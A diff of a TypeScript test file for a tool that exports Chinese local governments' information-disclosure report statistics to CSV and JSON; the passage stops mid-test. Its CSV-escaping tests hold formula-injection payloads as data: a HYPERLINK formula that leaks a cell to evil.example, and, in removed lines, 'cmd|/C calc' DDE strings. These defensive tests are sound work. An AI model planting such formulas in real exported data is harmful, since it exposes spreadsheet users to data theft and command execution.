@@ -1,30 +1,58 @@
+/**
+ * The downloads, built from real reports of every format converted from
+ * sources/ in memory: 大武口区 2017 and 平罗县 2016 (2008 national table; 平罗
+ * has no table, only prose), 平潭 2016 (Fujian's table), 平潭 2020 (2019
+ * format, glued cells left uncertain), 平潭 2022 and 沭阳县发改局 2023 (2021
+ * format; 沭阳 leaves the 法人或其他组织 columns blank).
+ */
 import { createHash } from "node:crypto";
-import { readFileSync, readdirSync } from "node:fs";
+import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { allIndicators } from "../../../src/catalog/index.ts";
-import { parseReport, reportIdPattern, type Report } from "../../../src/schema/report.ts";
+import { CONCEPTS, getTemplate, TEMPLATES } from "../../../src/catalog/index.ts";
+import { convertSource } from "../../../src/converter/pipeline.ts";
+import { figureOf } from "../../../src/report/figures.ts";
+import { jurisdictionIdPattern, parseReport, reportIdPattern, type Report } from "../../../src/schema/report.ts";
 import { buildDateFrom, resolveBuildDate } from "../../../src/site/datasets/build-date.ts";
-import { codebookRows } from "../../../src/site/datasets/codebook.ts";
-import { REPORT_ID_PATTERN, longColumns, wideMetadataColumns } from "../../../src/site/datasets/columns.ts";
+import { codebookColumns, codebookRows } from "../../../src/site/datasets/codebook.ts";
+import {
+  JURISDICTION_ID_PATTERN,
+  REPORT_ID_PATTERN,
+  conceptColumns,
+  longColumns,
+  reportListColumns,
+  splitCaveat,
+  wideColumns,
+  wideMetadataColumns,
+} from "../../../src/site/datasets/columns.ts";
 import { BOM, FORMULA_START, parseCsv, plainNumber, toCsv } from "../../../src/site/datasets/csv.ts";
 import { buildDownloads, type DownloadBundle } from "../../../src/site/datasets/index.ts";
-import { prefectureName, rankStatistics } from "../../../src/site/datasets/observations.ts";
 import { datasetJsonLd, jsonLdScript } from "../../../src/site/datasets/jsonld.ts";
+import { prefectureName, templateFigures } from "../../../src/site/datasets/observations.ts";
+import { CONCEPT_STATUSES, VALUE_STATUSES, codeWithLabel } from "../../../src/site/datasets/vocabulary.ts";
 
-const FIXTURES = join(import.meta.dirname, "../../fixtures/reports");
-
-function loadFixtures(): Report[] {
-  return readdirSync(FIXTURES)
-    .filter((name) => name.endsWith(".json"))
-    .sort()
-    .map((name) => parseReport(JSON.parse(readFileSync(join(FIXTURES, name), "utf8")), name));
-}
+const SOURCES = join(import.meta.dirname, "../../../sources");
+const FILES = [
+  "000_76c4b6d22ff18d10.txt",
+  "002_0db27c3e21f320cb.txt",
+  "fujian-pingtan-2016.txt",
+  "fujian-pingtan-2020.txt",
+  "fujian-pingtan-2022.txt",
+  "jiangsu-shuyang-2023-fagaiju.html",
+];
+const reports: Report[] = await Promise.all(
+  FILES.map(async (file) => (await convertSource({ file, bytes: readFileSync(join(SOURCES, file)) })).report),
+);
+const byId = new Map(reports.map((r) => [r.id, r]));
+const IDS = ["321322-development-reform-2023", "640202-2017", "640221-2016", "x659039f5dea5-2016", "x659039f5dea5-2020", "x659039f5dea5-2022"];
+const dawukou = byId.get("640202-2017")!;
+const shuyang = byId.get("321322-development-reform-2023")!;
 
 const BUILD = buildDateFrom(new Date(Date.UTC(2024, 5, 30, 12, 0, 0)));
+const bundle = buildDownloads(reports, BUILD);
 
-function file(bundle: DownloadBundle, path: string): string {
-  const found = bundle.byPath.get(path);
+function file(from: DownloadBundle, path: string): string {
+  const found = from.byPath.get(path);
   if (!found) throw new Error(`no download ${path}`);
   return found.body();
 }
@@ -48,22 +76,25 @@ function row(rows: Record<string, string>[], where: Record<string, string>): Rec
   return found[0]!;
 }
 
-/** A deep copy of a fixture to alter for one test. */
+/** A deep copy of a report to alter for one test. */
 function altered(report: Report, change: (r: Report) => void): Report {
   const copy = structuredClone(report);
   change(copy);
   return parseReport(copy, `${report.id} (altered in test)`);
 }
 
-const fixtures = loadFixtures();
-const byId = new Map(fixtures.map((r) => [r.id, r]));
-const xingqing = byId.get("640104-2018")!;
+const cell = (value: number | null) => (value === null ? "" : plainNumber(value));
+const place = (report: Report, id: string) => templateFigures(getTemplate(report.template)).find((f) => f.id === id)!;
+
+it("converts the six reports the tests name", () => {
+  expect(reports.map((r) => r.id).sort()).toEqual(IDS);
+  expect(reports.map((r) => r.template).sort()).toEqual(["fujian-2008", "national-2008", "national-2008", "national-2019", "national-2021", "national-2021"]);
+});
 
 describe("toCsv", () => {
   it("writes a BOM, CRLF after every record, and quotes commas, quotes and newlines", () => {
     const label = '不同意公开答复数, 其中"涉及国家秘密"';
     const csv = toCsv(["indicator_label", "note", "value"], [[label, "第一行\n第二行", 8573]]);
-    expect(csv.startsWith(BOM)).toBe(true);
     expect(csv).toBe(`${BOM}indicator_label,note,value\r\n"不同意公开答复数, 其中""涉及国家秘密""","第一行\n第二行",8573\r\n`);
     expect(parseCsv(csv)).toEqual([
       ["indicator_label", "note", "value"],
@@ -85,117 +116,159 @@ describe("toCsv", () => {
     expect(csv).toBe(
       `${BOM}a,b,c,d,e,f\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")",'+86 951 1234567,'-3,'@SUM(A1:A2),'\t=1+1,"'\r=1+1"\r\n`,
     );
-    expect(parseCsv(csv)[1]).toEqual([`'${hyperlink}`, "'+86 951 1234567", "'-3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1"]);
   });
 
   it("escapes the full-width ＝ ＋ － ＠ too, and leaves a formula character after the first alone", () => {
     expect(toCsv(["a", "b", "c", "d", "e"], [["＝1+1", "＋1", "－", "＠x", "1=1-1+@"]])).toBe(`${BOM}a,b,c,d,e\r\n'＝1+1,'＋1,'－,'＠x,1=1-1+@\r\n`);
   });
 
-  it("writes negative numbers as numbers: only text cells are escaped", () => {
-    expect(toCsv(["value", "raw_text"], [[-3, "-3"], [-0.5, "—"], [-2.5e-8, null]])).toBe(
-      `${BOM}value,raw_text\r\n-3,'-3\r\n-0.5,—\r\n-0.000000025,\r\n`,
-    );
-  });
-
-  it("writes numbers plainly: no exponent, no separators", () => {
-    expect(plainNumber(73659)).toBe("73659");
-    expect(plainNumber(0.5)).toBe("0.5");
-    expect(plainNumber(-0)).toBe("0");
-    expect(plainNumber(1e21)).toBe("1000000000000000000000");
+  it("writes numbers plainly: no exponent, no separators, negative numbers untouched", () => {
+    expect(toCsv(["value", "raw_text"], [[-3, "-3"], [-2.5e-8, null]])).toBe(`${BOM}value,raw_text\r\n-3,'-3\r\n-0.000000025,\r\n`);
     expect(plainNumber(1.5e21)).toBe("1500000000000000000000");
-    expect(plainNumber(1.5e-7)).toBe("0.00000015");
-    expect(plainNumber(-2.5e-8)).toBe("-0.000000025");
+    expect(plainNumber(-0)).toBe("0");
     expect(() => plainNumber(Number.NaN)).toThrow(/not a finite number/);
   });
 });
 
 describe("resolveBuildDate", () => {
-  it("takes SOURCE_DATE_EPOCH when set", () => {
-    expect(resolveBuildDate({ SOURCE_DATE_EPOCH: "1700000000" })).toEqual({
-      timestamp: "2023-11-14T22:13:20Z",
-      date: "2023-11-14",
-    });
-  });
-  it("falls back to the current time", () => {
-    const now = new Date(Date.UTC(2025, 0, 31, 23, 59, 59, 999));
-    expect(resolveBuildDate({}, () => now)).toEqual({ timestamp: "2025-01-31T23:59:59Z", date: "2025-01-31" });
-  });
-  it("rejects a malformed SOURCE_DATE_EPOCH", () => {
+  it("takes SOURCE_DATE_EPOCH when set, else the current time, and rejects a malformed one", () => {
+    expect(resolveBuildDate({ SOURCE_DATE_EPOCH: "1700000000" })).toEqual({ timestamp: "2023-11-14T22:13:20Z", date: "2023-11-14" });
+    expect(resolveBuildDate({}, () => new Date(Date.UTC(2025, 0, 31, 23, 59, 59, 999)))).toEqual({ timestamp: "2025-01-31T23:59:59Z", date: "2025-01-31" });
     expect(() => resolveBuildDate({ SOURCE_DATE_EPOCH: "2024-01-01" })).toThrow(/SOURCE_DATE_EPOCH must be a whole number/);
   });
 });
 
 describe("long CSV", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
   const text = file(bundle, "reports-long.csv");
   const { header, rows } = table(text);
 
-  it("is UTF-8 with BOM and CRLF only", () => {
+  it("is UTF-8 with BOM and CRLF only, with the documented header", () => {
     expect(text.startsWith(BOM)).toBe(true);
-    expect(text.endsWith("\r\n")).toBe(true);
     expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
-  });
-
-  it("has the documented header", () => {
     expect(header).toEqual(longColumns().map((c) => c.name));
   });
 
-  it("has one row per observation and one for every catalog indicator a report does not give", () => {
-    const perTemplate = allIndicators().length;
-    let expected = 0;
-    for (const report of fixtures) {
-      const given = new Set(report.statistics.map((s) => s.indicator));
-      expected += report.statistics.length + (perTemplate - given.size);
-      const ids = new Set(rows.filter((r) => r.report_id === report.id).map((r) => r.indicator_id));
-      expect(ids.size).toBe(perTemplate);
+  it("has a row per printed and derived figure, and one per id of the format a report gives nothing for", () => {
+    for (const report of reports) {
+      const given = new Set([...report.statistics, ...report.derived].map((f) => f.indicator));
+      const absent = templateFigures(getTemplate(report.template)).filter((f) => !given.has(f.id)).length;
+      const own = rows.filter((r) => r.report_id === report.id);
+      expect(own.filter((r) => r.value_status === "not_in_report"), report.id).toHaveLength(absent);
+      expect(own, report.id).toHaveLength(report.statistics.length + report.derived.length + absent);
     }
-    expect(rows).toHaveLength(expected);
-    expect(bundle.main.find((f) => f.path === "reports-long.csv")!.rows).toBe(expected);
+    // 沭阳 prints every cell of the 2021 format (200) and gets every derived sum (62); 平罗 has 12 prose figures of 58 ids.
+    expect(rows.filter((r) => r.report_id === shuyang.id)).toHaveLength(262);
+    expect(rows.filter((r) => r.report_id === "640221-2016")).toHaveLength(58);
+    expect(bundle.main.find((f) => f.path === "reports-long.csv")!.rows).toBe(rows.length);
   });
 
-  it("agrees with the report JSON for every observation", () => {
-    for (const report of fixtures) {
+  it("agrees with the report JSON for every printed figure, place included", () => {
+    for (const report of reports) {
       for (const s of report.statistics) {
-        const r = row(rows, { report_id: report.id, indicator_id: s.indicator, origin: s.origin, source_line: String(s.line), raw_text: s.raw });
-        expect(r.value).toBe(s.value === null ? "" : plainNumber(s.value));
-        expect(r.value_status).toBe(s.value === null ? "not_reported" : "reported");
-        expect(r.source_label).toBe(s.label);
-        expect(r.note).toBe(s.note ?? "");
-        expect(r.division_code).toBe(report.jurisdiction.code);
-        expect(r.year).toBe(String(report.year));
+        const r = row(rows, { report_id: report.id, indicator_id: s.indicator, origin: s.origin, source_line: String(s.span.line), source_column: String(s.span.column) });
+        expect(r).toMatchObject({
+          value: cell(s.value),
+          value_status: s.status,
+          raw_text: s.raw.replace(FORMULA_START, "'$&"),
+          source_label: s.label,
+          source_file: s.span.file,
+          source_page: s.span.page === null ? "" : String(s.span.page),
+          // Where the figure stands in the format: the cell it was read from, or for prose the catalog's place of the id.
+          table: s.table ?? place(report, s.indicator).table ?? "",
+          row: s.row ?? place(report, s.indicator).row ?? "",
+          column: s.column ?? place(report, s.indicator).column ?? "",
+          printed_unit: s.unit ?? "",
+          note: s.note ?? "",
+          template: report.template,
+          jurisdiction_id: report.jurisdiction.id,
+          division_code: report.jurisdiction.code ?? "",
+          year: String(report.year),
+        });
       }
     }
   });
 
-  it("gives the seed figures exactly, table first, the same figure from the prose after it", () => {
-    const table148 = row(rows, { report_id: "640202-2017", indicator_id: "proactive_total", origin: "table" });
-    expect(table148).toMatchObject({
+  it("marks every derived figure as derived, with what it sums", () => {
+    for (const report of reports) {
+      for (const d of report.derived) {
+        const r = row(rows, { report_id: report.id, indicator_id: d.indicator, origin: "derived" });
+        expect(r).toMatchObject({ indicator_kind: "derived", value: cell(d.value), value_status: d.status, derived_from: d.inputs.join(";"), source_line: "", raw_text: "" });
+      }
+    }
+    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__legal_persons" })).toMatchObject({
+      indicator_kind: "derived",
+      origin: "derived",
+      value: "",
+      value_status: "not_reported",
+      table: "requests",
+      row: "requests_received",
+      column: "legal_persons",
+      derived_from: "requests_received__commercial;requests_received__research;requests_received__public_interest;requests_received__legal_services;requests_received__other_org",
+    });
+  });
+
+  it("marks as primary exactly the figure the pages show (src/report/figures.ts)", () => {
+    for (const report of reports) {
+      for (const figure of templateFigures(getTemplate(report.template))) {
+        const primaries = rows.filter((r) => r.report_id === report.id && r.indicator_id === figure.id && r.is_primary === "true");
+        expect(primaries, `${report.id} ${figure.id}`).toHaveLength(1);
+        const stands = figureOf(report, figure.id);
+        expect(primaries[0]!.value, `${report.id} ${figure.id}`).toBe(stands.kind === "absent" ? "" : cell(stands.value));
+      }
+    }
+    // 平潭 2022 states 行政诉讼案件1件 in its prose; the sum of table 四's two totals gives the same 1 and is not primary.
+    const litigation = rows.filter((r) => r.report_id === "x659039f5dea5-2022" && r.indicator_id === "litigation__total");
+    expect(litigation.map((r) => [r.origin, r.value, r.is_primary, r.source_line])).toEqual([
+      ["text", "1", "true", "10"],
+      ["derived", "1", "false", ""],
+    ]);
+  });
+
+  it("gives the seed figures exactly, with their places", () => {
+    expect(row(rows, { report_id: "640202-2017", indicator_id: "proactive_total" })).toMatchObject({
       jurisdiction: "大武口区",
       jurisdiction_level: "county",
       prefecture: "石嘴山市",
       province: "宁夏回族自治区",
       indicator_label: "主动公开政府信息数",
+      indicator_kind: "indicator",
+      table: "statistics",
+      row: "proactive_total",
+      column: "",
       unit: "条",
       value: "8573",
+      value_status: "reported",
+      origin: "table",
       source_line: "148",
       is_primary: "true",
-      check_status: "pass",
     });
-    const text102 = row(rows, { report_id: "640202-2017", indicator_id: "proactive_total", origin: "text" });
-    expect(text102).toMatchObject({ value: "8573", source_line: "102", is_primary: "false" });
-    expect(text102.source_label).toMatch(/^大武口区通过政府网站/);
-    expect(row(rows, { report_id: "640202-2017", indicator_id: "trainees" })).toMatchObject({ value: "70", source_line: "215" });
-    expect(row(rows, { report_id: "640500-2017", indicator_id: "replies_denied" })).toMatchObject({
-      jurisdiction_level: "prefecture",
-      prefecture: "中卫市",
-      value: "33",
-      source_line: "376",
+    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__total" })).toMatchObject({
+      department: "发展和改革局",
+      prefecture: "宿迁市",
+      table_label: "三、收到和处理政府信息公开申请情况",
+      value: "26",
+      source_file: "jiangsu-shuyang-2023-fagaiju.html",
+      source_line: "436",
+    });
+    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__commercial" })).toMatchObject({
+      value: "",
+      value_status: "not_reported",
+      origin: "table",
+      note: "单元格空白，未填报",
+    });
+    // 平潭 2020 prints 规范性文件 7777166: three cells glued, seven ways to split them.
+    expect(row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "normative_docs__new_made" })).toMatchObject({
+      jurisdiction_id: "x659039f5dea5",
+      division_code: "",
+      value: "",
+      value_status: "uncertain",
+      raw_text: "7777166",
+      source_line: "10",
     });
   });
 
-  it("marks an indicator the report does not mention as not_in_report with empty cells", () => {
-    // 平罗县 2016 has no statistics table; its prose gives 受理政府信息公开申请5件 but nothing on fax requests.
+  it("marks an id the report does not give as not_in_report with empty cells", () => {
+    // 平罗县 2016 has no statistics table; its prose gives 受理政府信息公开申请5件 (line 306) but nothing on fax requests.
     expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_fax" })).toMatchObject({
       value: "",
       value_status: "not_in_report",
@@ -203,206 +276,199 @@ describe("long CSV", () => {
       origin: "",
       source_line: "",
       raw_text: "",
-      check_status: "not_assessable",
-      failed_checks: "",
     });
-    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" })).toMatchObject({
-      value: "5",
-      origin: "text",
-      source_line: "306",
-      check_status: "not_assessable",
-    });
+    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" })).toMatchObject({ value: "5", origin: "text", source_line: "306" });
   });
 
   it("quotes the prose sentence with its ASCII commas and reads it back unchanged", () => {
-    const sentence = readFileSync(join(import.meta.dirname, "../../../sources/002_0db27c3e21f320cb.txt"), "utf8").split("\n")[305]!.trim();
+    const sentence = readFileSync(join(SOURCES, "002_0db27c3e21f320cb.txt"), "utf8").split("\n")[305]!.trim();
     expect(sentence).toContain(",2016年受理政府信息公开申请5件,");
     expect(text).toContain(`,"${sentence}",`);
     expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" }).source_label).toBe(sentence);
   });
 
-  it("writes a null value as an empty cell with status not_reported, and quotes a note with a comma and a quote", () => {
-    const note = 'cell reads "—", no number';
-    const withDash = altered(xingqing, (r) => {
-      const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
-      Object.assign(fax, { value: null, raw: "—", note });
-    });
-    const altText = file(buildDownloads([withDash], BUILD), "reports-long.csv");
-    expect(altText).toContain(`,"cell reads ""—"", no number"\r\n`);
-    expect(row(table(altText).rows, { indicator_id: "requests_fax" })).toMatchObject({
-      value: "",
-      value_status: "not_reported",
-      raw_text: "—",
-      note,
-    });
-    const wide = table(file(buildDownloads([withDash], BUILD), "reports-wide.csv")).rows[0]!;
-    expect(wide.requests_fax).toBe("");
-    expect(wide.requests_online).toBe("4");
-  });
-
-  it("marks every indicator a failed check concerns as fail, naming the rule", () => {
-    const broken = altered(xingqing, (r) => {
-      r.statistics.find((s) => s.indicator === "requests_online")!.value = 5;
-      Object.assign(r.checks.find((c) => c.rule === "requests_received_sum")!, { status: "fail", message: "5 ≠ 1 + 0 + 5 + 0 = 6" });
-    });
-    const out = buildDownloads([broken], BUILD);
-    const long = table(file(out, "reports-long.csv")).rows;
-    for (const id of ["requests_received", "requests_in_person", "requests_fax", "requests_online", "requests_mail"]) {
-      expect(row(long, { indicator_id: id })).toMatchObject({ check_status: "fail", failed_checks: "requests_received_sum" });
-    }
-    expect(row(long, { indicator_id: "requests_closed" }).check_status).toBe("pass");
-    expect(row(long, { indicator_id: "complaints_total" }).check_status).toBe("none");
-    expect(table(file(out, "reports-wide.csv")).rows[0]!.checks_failed).toBe("1");
+  it("names the failed checks beside every indicator they concern", () => {
+    // 平潭 2020: 办理结果总计 · 总计 21 against its parts, which add up to 27.
+    const total = row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "replies_total__total", origin: "table" });
+    expect(total.check_status).toBe("fail");
+    expect(total.failed_checks!.split(";")).toContain("replies_total_sum__total");
+    expect(row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "replies_granted__total", origin: "table" }).check_status).toBe("fail");
+    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_fax" }).check_status).toBe("not_assessable");
   });
 });
 
-describe("spreadsheet formulas in report text", () => {
-  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
-  const hostile = altered(xingqing, (r) => {
-    r.title = `${HYPERLINK}2018年政府信息公开工作年度报告`;
-    r.jurisdiction.name = "+cmd|' /C calc'!A0";
-    r.publisher = "@SUM(1+1)*cmd|' /C calc'!A0";
-    const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
-    Object.assign(fax, { value: -3, raw: "-3", label: "\t=1+1", note: "\r=2+2" });
-  });
-  const bundle = buildDownloads([hostile], BUILD);
-  const files = ["reports-long.csv", "reports-wide.csv", `reports/${hostile.id}.csv`, "indicators/requests_fax.csv"];
-
-  it("leaves no cell of any CSV starting with = + - @ tab or CR unless it is a number", () => {
-    for (const path of files) {
-      const [header, ...records] = parseCsv(file(bundle, path));
-      const numberColumns = new Set(header!.filter((name) => name === "value" || name === "source_line" || name === "year" || allIndicators().some((e) => e.indicator.id === name)));
-      for (const record of records) {
-        record.forEach((cell, i) => {
-          if (numberColumns.has(header![i]!) && cell !== "") expect(Number.isFinite(Number(cell)), `${path} ${header![i]} ${cell}`).toBe(true);
-          else expect(cell, `${path} ${header![i]}`).not.toMatch(FORMULA_START);
-        });
-      }
+describe("wide CSV per format", () => {
+  it("has the metadata columns, then every id of the format, printed then derived", () => {
+    for (const template of TEMPLATES) {
+      const { header, rows } = table(file(bundle, `reports-wide-${template.id}.csv`));
+      const meta = wideMetadataColumns().map((c) => c.name);
+      expect(header).toEqual([...meta, ...template.indicators.map((i) => i.id), ...template.derived.map((d) => d.id)]);
+      expect(header).toEqual(wideColumns(template).map((c) => c.name));
+      expect(rows.map((r) => r.report_id)).toEqual(IDS.filter((id) => byId.get(id)!.template === template.id));
     }
   });
 
-  it("keeps the text readable behind the apostrophe and the negative figure a number", () => {
-    const long = row(table(file(bundle, "reports-long.csv")).rows, { indicator_id: "requests_fax" });
-    expect(long).toMatchObject({ jurisdiction: "'+cmd|' /C calc'!A0", value: "-3", raw_text: "'-3", source_label: "'\t=1+1", note: "'\r=2+2" });
-    const wide = table(file(bundle, "reports-wide.csv")).rows[0]!;
-    expect(wide).toMatchObject({ title: `'${HYPERLINK}2018年政府信息公开工作年度报告`, publisher: "'@SUM(1+1)*cmd|' /C calc'!A0", requests_fax: "-3" });
-    expect(Number(wide.requests_fax)).toBe(-3);
-    expect(row(table(file(bundle, "indicators/requests_fax.csv")).rows, { report_id: hostile.id }).value).toBe("-3");
-  });
-});
-
-describe("wide CSV", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
-  const { header, rows } = table(file(bundle, "reports-wide.csv"));
-  const indicatorIds = allIndicators().map((e) => e.indicator.id);
-
-  it("has the metadata columns, then exactly one column per catalog indicator in catalog order", () => {
-    const meta = wideMetadataColumns().map((c) => c.name);
-    expect(header.slice(0, meta.length)).toEqual(meta);
-    expect(header.slice(meta.length)).toEqual(indicatorIds);
-    expect(new Set(header).size).toBe(header.length);
-  });
-
-  it("has one row per report, sorted by id", () => {
-    expect(rows.map((r) => r.report_id)).toEqual(["640104-2018", "640202-2017", "640221-2016", "640303-2018", "640500-2017"]);
-  });
-
-  it("holds each report's primary value per indicator, empty where the report gives none", () => {
-    for (const report of fixtures) {
-      const r = row(rows, { report_id: report.id });
-      for (const id of indicatorIds) {
-        const primary = rankStatistics(report.statistics.filter((s) => s.indicator === id))[0];
-        expect(r[id], `${report.id} ${id}`).toBe(primary?.value == null ? "" : plainNumber(primary.value));
+  it("holds the figure that stands for each id, empty unless a number", () => {
+    for (const template of TEMPLATES) {
+      const { rows } = table(file(bundle, `reports-wide-${template.id}.csv`));
+      for (const r of rows) {
+        const report = byId.get(r.report_id!)!;
+        for (const figure of templateFigures(template)) {
+          const stands = figureOf(report, figure.id);
+          expect(r[figure.id], `${report.id} ${figure.id}`).toBe(stands.kind === "absent" ? "" : cell(stands.value));
+        }
       }
     }
-    expect(row(rows, { report_id: "640202-2017" })).toMatchObject({ proactive_total: "8573", staff_total: "76", has_statistics_table: "true" });
-    expect(row(rows, { report_id: "640221-2016" })).toMatchObject({
+    const national2021 = table(file(bundle, "reports-wide-national-2021.csv")).rows;
+    expect(row(national2021, { report_id: shuyang.id })).toMatchObject({
+      department: "发展和改革局",
+      requests_received__total: "26",
+      requests_received__commercial: "",
+      requests_received__legal_persons: "",
+      has_statistics_table: "true",
+    });
+    expect(row(table(file(bundle, "reports-wide-national-2008.csv")).rows, { report_id: "640221-2016" })).toMatchObject({
       proactive_total: "42704",
-      proactive_website: "21080",
+      requests_received: "5",
       requests_fax: "",
       trainees: "1014",
       has_statistics_table: "false",
-      published_on: "",
     });
-    expect(row(rows, { report_id: "640500-2017" })).toMatchObject({ proactive_total: "73659", prefecture: "中卫市" });
+  });
+
+  it("the all-formats wide CSV has every report and agrees with the per-format files", () => {
+    const all = table(file(bundle, "reports-wide.csv"));
+    expect(all.rows.map((r) => r.report_id)).toEqual(IDS);
+    expect(new Set(all.header).size).toBe(all.header.length);
+    for (const template of TEMPLATES) {
+      for (const r of table(file(bundle, `reports-wide-${template.id}.csv`)).rows) {
+        const other = row(all.rows, { report_id: r.report_id! });
+        for (const [name, value] of Object.entries(r)) expect(other[name], `${r.report_id} ${name}`).toBe(value);
+      }
+    }
+    expect(row(all.rows, { report_id: "640202-2017" }).requests_received__total).toBe("");
+  });
+});
+
+describe("concepts CSV", () => {
+  const { header, rows } = table(file(bundle, "reports-concepts.csv"));
+
+  it("has one row per report × concept of the catalog", () => {
+    expect(header).toEqual(conceptColumns().map((c) => c.name));
+    expect(rows).toHaveLength(reports.length * CONCEPTS.length);
+    for (const report of reports) expect(rows.filter((r) => r.report_id === report.id).map((r) => r.concept_id)).toEqual(CONCEPTS.map((c) => c.id));
+  });
+
+  it("agrees with the report JSON's concepts, with the indicators and both halves of the caveat", () => {
+    for (const report of reports) {
+      for (const c of report.concepts) {
+        const caveat = splitCaveat(c.caveat);
+        expect(row(rows, { report_id: report.id, concept_id: c.concept }), `${report.id} ${c.concept}`).toMatchObject({
+          value: cell(c.value),
+          value_status: c.status,
+          indicators: c.indicators.join(";"),
+          caveat: caveat.zh,
+          caveat_en: caveat.en,
+        });
+      }
+    }
+    expect(row(rows, { report_id: "640221-2016", concept_id: "requests_received" })).toMatchObject({ value: "5", value_status: "reported", indicators: "requests_received", unit: "件" });
+    expect(row(rows, { report_id: shuyang.id, concept_id: "requests_received" })).toMatchObject({ value: "26", indicators: "requests_received__total" });
+    expect(row(rows, { report_id: "640202-2017", concept_id: "requests_received" })).toMatchObject({
+      caveat: "2008年格式按渠道（当面/传真/网络/信函）细分，2019年起按申请人类型细分；两种细分在对方格式中都不存在。",
+      caveat_en: "2008 splits by channel (当面/传真/网络/信函), 2019+ by applicant type; neither breakdown exists in the other format.",
+    });
+  });
+
+  it("says why a concept has no value: the format lacks it, or the report does not give it", () => {
+    // Fujian's table has no carry-over; 平罗县's prose says nothing about reconsideration.
+    expect(row(rows, { report_id: "x659039f5dea5-2016", concept_id: "requests_carried_over" })).toMatchObject({ value: "", value_status: "not_in_template", indicators: "", caveat: "" });
+    expect(row(rows, { report_id: "640221-2016", concept_id: "reconsideration_total" })).toMatchObject({
+      value: "",
+      value_status: "not_in_report",
+      indicators: CONCEPTS.find((c) => c.id === "reconsideration_total")!.templates["national-2008"]!.sumOf.join(";"),
+    });
+  });
+});
+
+describe("report list", () => {
+  const { header, rows } = table(file(bundle, "reports.csv"));
+  it("has one row per report with its metadata and source", () => {
+    expect(header).toEqual(reportListColumns().map((c) => c.name));
+    expect(rows.map((r) => r.report_id)).toEqual(IDS);
+    expect(row(rows, { report_id: shuyang.id })).toMatchObject({
+      title: "沭阳县发展和改革局2023年政府信息公开年度报告",
+      template: "national-2021",
+      source_file: "jiangsu-shuyang-2023-fagaiju.html",
+      source_form: "html",
+      source_sha256: createHash("sha256").update(readFileSync(join(SOURCES, "jiangsu-shuyang-2023-fagaiju.html"))).digest("hex"),
+      figures_printed: "200",
+    });
+    expect(row(rows, { report_id: "x659039f5dea5-2020" })).toMatchObject({ checks_uncertain: String(byId.get("x659039f5dea5-2020")!.checks.filter((c) => c.status === "uncertain").length) });
   });
 });
 
 describe("per-report and per-indicator files", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
   const long = table(file(bundle, "reports-long.csv"));
 
-  it("per-report CSV is the long rows of that report", () => {
-    for (const report of fixtures) {
+  it("per-report CSV is the long rows of that report, per-report JSON the validated report", () => {
+    for (const report of reports) {
       const own = table(file(bundle, `reports/${report.id}.csv`));
       expect(own.header).toEqual(long.header);
       expect(own.rows).toEqual(long.rows.filter((r) => r.report_id === report.id));
-    }
-  });
-
-  it("per-report JSON is the validated report", () => {
-    for (const report of fixtures) {
       expect(parseReport(JSON.parse(file(bundle, `reports/${report.id}.json`)), report.id)).toEqual(report);
     }
   });
 
-  it("per-indicator CSV and JSON agree with the wide CSV", () => {
-    const wide = table(file(bundle, "reports-wide.csv")).rows;
-    for (const id of ["proactive_total", "requests_received", "fees_collected", "trainees"]) {
-      const csv = table(file(bundle, `indicators/${id}.csv`));
-      expect(csv.header).toEqual(["report_id", "division_code", "jurisdiction", "year", "value", "value_status", "source_line"]);
-      expect(csv.rows.map((r) => [r.report_id, r.value])).toEqual(wide.map((w) => [w.report_id, w[id]]));
-      const json = JSON.parse(file(bundle, `indicators/${id}.json`));
-      expect(json.indicator.id).toBe(id);
-      expect(json.rows.map((r: { value: number | null }) => (r.value === null ? "" : String(r.value)))).toEqual(csv.rows.map((r) => r.value));
-    }
-    const received = table(file(bundle, "indicators/requests_received.csv")).rows;
-    expect(row(received, { report_id: "640500-2017" })).toMatchObject({ value: "43", value_status: "reported", source_line: "364" });
-    expect(row(received, { report_id: "640221-2016" })).toMatchObject({ value: "5", source_line: "306" });
+  it("per-indicator CSV and JSON hold the primary figure of every report whose format has it", () => {
+    const received = table(file(bundle, "indicators/requests_received__total.csv"));
+    expect(received.header).toEqual(["report_id", "jurisdiction_id", "division_code", "jurisdiction", "year", "template", "value", "value_status", "origin", "source_line", "source_column"]);
+    // Hand-read: 沭阳 26, 平潭 2020 21, 平潭 2022 74 (tests/fixtures/expected).
+    expect(received.rows.map((r) => [r.report_id, r.template, r.value, r.origin])).toEqual([
+      [shuyang.id, "national-2021", "26", "table"],
+      ["x659039f5dea5-2020", "national-2019", "21", "table"],
+      ["x659039f5dea5-2022", "national-2021", "74", "table"],
+    ]);
+    const json = JSON.parse(file(bundle, "indicators/requests_received__total.json"));
+    expect(json.indicator).toMatchObject({ id: "requests_received__total", table: "requests", row: "requests_received", column: "total", templates: ["national-2019", "national-2021"] });
+    expect(json.rows.map((r: { value: number | null }) => cell(r.value))).toEqual(received.rows.map((r) => r.value));
     const fax = table(file(bundle, "indicators/requests_fax.csv")).rows;
     expect(row(fax, { report_id: "640221-2016" })).toMatchObject({ value: "", value_status: "not_in_report", source_line: "" });
+    expect(row(fax, { report_id: "640202-2017" }).value_status).toBe("reported");
   });
 
-  it("has a file pair for every report and every indicator", () => {
-    expect(bundle.perReport.map((p) => p.report.id)).toEqual([...byId.keys()].sort());
-    expect(bundle.perIndicator.map((p) => p.id)).toEqual(allIndicators().map((e) => e.indicator.id));
+  it("has a file pair for every report and every printed indicator", () => {
